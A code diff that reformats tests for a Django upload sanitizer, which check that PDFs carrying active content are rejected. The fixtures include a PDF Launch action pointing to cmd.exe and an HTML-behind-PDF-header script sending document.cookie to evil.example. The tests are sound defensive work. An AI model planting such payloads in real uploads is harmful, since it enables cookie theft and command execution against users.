@@ -46,8 +46,12 @@ def _page_aa(pdf):
 
 
 def _launch_link(pdf):
-    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]),
-                            A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
+    annotation = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=Array([0, 0, 100, 100]),
+        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
+    )
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
 
 
@@ -66,8 +70,12 @@ def _field_script(pdf):
 
 
 def _rich_media(pdf):
-    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]),
-                            RichMediaContent=Dictionary(Assets=Dictionary()))
+    annotation = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.RichMedia,
+        Rect=Array([0, 0, 10, 10]),
+        RichMediaContent=Dictionary(Assets=Dictionary()),
+    )
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
 
 
@@ -100,8 +108,10 @@ def test_7_3_pdf_with_active_content_is_refused(build):
 
 
 def test_7_3_html_behind_a_pdf_header_is_refused():
-    html = b"%PDF-1.7\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>" \
-           b"</body></html>\n%%EOF\n"
+    html = (
+        b"%PDF-1.7\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
+        b"</body></html>\n%%EOF\n"
+    )
     with pytest.raises(UploadRejected) as refused:
         sanitize_upload(SimpleUploadedFile("letter.pdf", html), allow_pdf=True)
     assert refused.value.code == "corrupt"
@@ -176,14 +186,24 @@ def test_7_3_api_refuses_a_letter_with_javascript(world):
     api = APIClient()
     api.force_authenticate(world["users"]["account_manager"])
     before = {p for p in Path(settings.PRIVATE_MEDIA_ROOT).rglob("*") if p.is_file()}
-    response = api.post("/api/v1/enterprises/", {
-        "name": "北京市某某局", "unit_kind": "party_government", "credential_type": "official_letter", "credential_number": "",
-        "credential_address": "北京市东城区1号",
-        "credential_files": [SimpleUploadedFile("公函.pdf", _pdf(_open_action_js), content_type="application/pdf")],
-        "responsible_name": "李四", "responsible_id_type": "resident_id", "responsible_id_number": idgen.resident_id(),
-        "responsible_id_address": "北京市东城区2号", "responsible_is_legal_representative": True,
-        "responsible_id_files": [SimpleUploadedFile("id.jpg", _jpeg())],
-    }, format="multipart")
+    response = api.post(
+        "/api/v1/enterprises/",
+        {
+            "name": "北京市某某局",
+            "unit_kind": "party_government",
+            "credential_type": "official_letter",
+            "credential_number": "",
+            "credential_address": "北京市东城区1号",
+            "credential_files": [SimpleUploadedFile("公函.pdf", _pdf(_open_action_js), content_type="application/pdf")],
+            "responsible_name": "李四",
+            "responsible_id_type": "resident_id",
+            "responsible_id_number": idgen.resident_id(),
+            "responsible_id_address": "北京市东城区2号",
+            "responsible_is_legal_representative": True,
+            "responsible_id_files": [SimpleUploadedFile("id.jpg", _jpeg())],
+        },
+        format="multipart",
+    )
     assert response.status_code == 400, response.content
     body = response.json()
     assert body["code"] == "active_content" and body["field"] == "credential_files"
